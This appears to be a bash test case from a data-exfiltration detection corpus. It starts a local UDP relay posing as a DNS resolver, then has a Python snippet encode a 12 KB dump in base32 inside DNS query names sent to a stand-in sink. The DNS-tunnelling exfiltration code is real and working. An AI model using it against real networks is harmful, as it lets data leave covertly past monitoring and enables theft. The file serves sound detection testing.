#!/bin/bash
# B-dns-resolver: 12 KB leave as names in DNS queries, asked of the resolver on loopback, as programs do.
# flow: datagrams of 120 bytes of the dump in base32 to the resolver, which asks the far server by a socket of its own.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink dns
cat >resolver.py <<'END'
import socket, sys
here = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
here.bind(("127.0.0.1", int(sys.argv[1])))
there = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
there.settimeout(1)
open("resolving", "w").close()
while True:
    query, client = here.recvfrom(4096)
    there.sendto(query, (sys.argv[2], int(sys.argv[3])))
    try:
        here.sendto(there.recv(4096), client)
    except TimeoutError:
        pass
END
bg python3 resolver.py $((PORT + 1)) "$SINK" "$PORT"
until_true [ -e resolving ]
python3 - "$D" $((PORT + 1)) <<'END'
import base64, socket, struct, sys
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.connect(("127.0.0.1", int(sys.argv[2])))
resolver.settimeout(1)
with open(sys.argv[1], "rb") as dump:
    for number in range(100):
        text = base64.b32encode(dump.read(120)).decode().rstrip("=")
        labels = [text[i : i + 60] for i in range(0, len(text), 60)] + ["t", "test"]
        name = b"".join(bytes([len(label)]) + label.encode() for label in labels)
        resolver.send(struct.pack(">HHHHHH", number, 0x100, 1, 0, 0, 0) + name + b"\0\0\x10\0\1")
        resolver.recv(2000)
END
sunk 12000
